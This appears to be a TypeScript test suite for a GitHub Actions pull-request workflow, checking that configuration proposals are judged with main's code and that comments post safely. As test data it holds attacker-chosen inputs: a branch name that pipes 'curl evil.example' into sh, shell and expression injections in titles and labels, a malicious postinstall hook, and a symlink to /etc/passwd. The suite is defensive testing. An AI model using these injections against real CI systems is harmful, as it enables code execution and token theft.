import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { repository } from "../../sandbox/toolchain/place.ts";
import type { Change } from "../cli/proposal/clone.ts";
import { GithubApi } from "./api.ts";
import { Origin } from "./origin.ts";
import { type Run, Runner } from "./runner.ts";

const config = (file: string): string => readFileSync(join(repository, "config", file), "utf8");

/** As an attacker chooses them. */
const names = {
  head: { ref: 'x";curl evil.example|sh;"', label: "evil:$(touch owned)" },
  title: "${{ github.token }} $(touch owned) `touch owned`",
  body: "::add-mask::main",
};

describe("the workflow of a pull request", function () {
  this.timeout(120_000);
  let origin: Origin;
  const runner = new Runner();

  before(() => {
    origin = new Origin();
  });

  after(() => {
    origin.remove();
    runner.remove();
  });

  const contextsOf = (head: string) => ({
    github: {
      sha: origin.main,
      token: "secret",
      event: { pull_request: { ...names, number: 7, head: { ...names.head, sha: head } } },
    },
  });
  const check = (changes: Record<string, Change>): Promise<Run> =>
    runner.run("pull-request", "check", {
      origin: origin.address,
      contexts: contextsOf(origin.propose(changes)),
      environment: process.env,
    });
  const owned = ({ workspace }: Run): boolean => existsSync(join(workspace, "owned"));

  it("passes an edit of the configuration, and says what it changes", async () => {
    const run = await check({
      "config/prod.yaml": config("prod.yaml").replace("    DevOps: [ReadOnly]\n", ""),
    });
    assert.equal(run.result, "success", run.log);
    assert.equal(run.outputs["configuration-only"], "true");
    assert.match(run.outputs["change"] ?? "", /Developers/);
    assert.match(run.outputs["change"] ?? "", /ReadOnly/);
    assert.ok(!owned(run));
  });

  it("judges with main's code, whatever code a proposal has, and refuses what is wrong", async () => {
    const run = await check({
      "config/prod.yaml": config("prod.yaml").replace("[DeploymentManager]", "[DeploymentManger]"),
      "cli/check.ts": "process.exit(0);\n",
      "cli/proposal.ts": "console.log('configuration-only=true');\n",
      "package.json": '{ "scripts": { "check": "touch owned", "postinstall": "touch owned" } }',
      ".github/scripts/fetch": "touch owned\n",
      ".npmrc": "script-shell=/bin/false\n",
    });
    assert.equal(run.result, "failure");
    assert.equal(run.outputs["configuration-only"], "false");
    assert.match(run.log, /^::error file=config\/prod\.yaml,line=\d+.*DeploymentManger/mu);
    assert.match(run.outputs["change"] ?? "", /DeploymentManger/);
    assert.ok(!owned(run));
  });

  it("lets no proposal excuse itself by security.yaml", async () => {
    const powerful = "runs-on: ec2\n    aws-managed-policies: [AdministratorAccess]";
    const excused = { "config/dev.yaml": config("dev.yaml").replace("runs-on: ec2", powerful) };
    const rule = "{ reason: Trust me, owner: SecurityTeam, until: 2099-12-31 }";
    const security = `${config("security.yaml")}\ndisabled-rules:\n  admin-managed: ${rule}\n`;
    const run = await check({ ...excused, "config/security.yaml": security });
    assert.equal(run.result, "failure");
    assert.match(run.log, /^::error file=config\/dev\.yaml.*admin-managed/mu);
  });

  it("stops at what is no regular file, before anything reads it", async () => {
    const run = await check({ "config/prod.yaml": { mode: "120000", content: "/etc/passwd" } });
    assert.equal(run.result, "failure");
    assert.match(run.log, /"config\/prod\.yaml" is a symbolic link, no file/);
    assert.doesNotMatch(run.log, /# Check the configuration|root:/);
    assert.deepEqual(run.outputs, { "configuration-only": "", change: "" });
  });

  describe("comments", () => {
    const api = new GithubApi();
    let address = "";
    const comment = (result: string, change: string): Promise<Run> =>
      runner.run("pull-request", "comment", {
        origin: origin.address,
        contexts: {
          ...contextsOf("a".repeat(40)),
          needs: { check: { result, outputs: { change } } },
        },
        environment: { ...process.env, GITHUB_API_URL: address },
      });

    before(async () => {
      address = await api.open();
    });

    after(() => {
      api.close();
    });

    it("once, and writes that comment anew; another's with the same words stays", async () => {
      const mine = { state: "open", user: { login: "mallory" } };
      const marker = "<!-- what this pull request changes -->";
      for (let id = 1; id <= 100; id += 1) api.comments.push({ id, number: id, body: `${marker} ${id}`, ...mine });
      const first = await comment("success", "**Developers** lose ReadOnly. $(touch owned)");
      assert.equal(first.result, "success", first.log);
      assert.ok(!owned(first));
      const again = await comment("failure", "");
      assert.equal(again.result, "success", again.log);
      assert.equal(api.comments.length, 101);
      assert.ok(api.comments.slice(0, 100).every(({ id, body }) => body === `${marker} ${id}`));
      assert.match(api.comments.at(-1)?.body ?? "", /The check has not passed[^]*cannot be told[^]*Judged: a{40}/);
    });

    it("as much as GitHub takes", async () => {
      await comment("success", "x".repeat(70_000));
      const body = api.comments.at(-1)?.body ?? "";
      assert.ok(body.length <= 65_536 && body.length > 60_000, `${body.length}`);
      assert.match(body, /passed\.[^]*shows the rest\.[^]*Judged: a{40}/);
    });
  });
});
